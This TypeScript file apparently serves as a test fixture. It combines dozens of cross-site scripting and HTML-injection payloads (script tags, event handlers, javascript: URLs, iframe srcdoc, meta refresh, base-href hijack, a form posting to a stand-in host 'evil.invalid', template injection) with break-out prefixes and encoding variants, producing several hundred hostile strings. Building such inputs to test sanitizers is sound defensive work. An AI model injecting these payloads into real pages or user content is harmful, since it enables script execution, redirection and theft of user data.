/**
 * Text that becomes a script, a request or a way off the page wherever somebody takes it for markup. Made by combining what does it
 * with what it may have to break out of, and with ways of writing it. Whatever runs calls `pwned`; whatever asks, asks `EVIL`.
 */

export const EVIL = "http://evil.invalid";

const CALL = "pwned(1)";

const DEEDS = [
  `<script>${CALL}</script>`,
  `<script src=${EVIL}/s.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=${EVIL}/i.png>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<video src=x onerror=${CALL}></video>`,
  `<audio src=${EVIL}/a.mp3 autoplay></audio>`,
  `<input autofocus onfocus=${CALL}>`,
  `<p style="animation:spin 1s" onanimationstart=${CALL}>x</p>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data=${EVIL}/o.html></object>`,
  `<embed src=${EVIL}/e.html>`,
  `<link rel=stylesheet href=${EVIL}/l.css>`,
  `<style>@import "${EVIL}/s.css";</style>`,
  `<p style="background:url(${EVIL}/b.png)">x</p>`,
  `<base href=${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/">`,
  `<form action=${EVIL}/><input name=x><button autofocus>x</button></form>`,
  `<a href="javascript:${CALL}">x</a>`,
  `javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `${EVIL}/"onmouseover=${CALL}//`,
  `[x](javascript:${CALL})`,
  `![x](${EVIL}/m.png)`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
];

const BREAKS = ["", '">', "'>", "-->", "</script>", "</title></textarea></style>"];

const SPELLINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<([a-z]+)/g, (tag) => tag.toUpperCase()),
  (text) => text.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
];

/** All of it: several hundred texts. */
export function hostileTexts(): string[] {
  return DEEDS.flatMap((deed) => BREAKS.flatMap((out) => SPELLINGS.map((spell) => spell(out + deed))));
}

/** One of each deed that is short enough for a name or a title. */
export function hostileNames(): string[] {
  return DEEDS.map((deed) => `">${deed}`).filter((name) => name.length <= 90 && !name.includes("\t"));
}
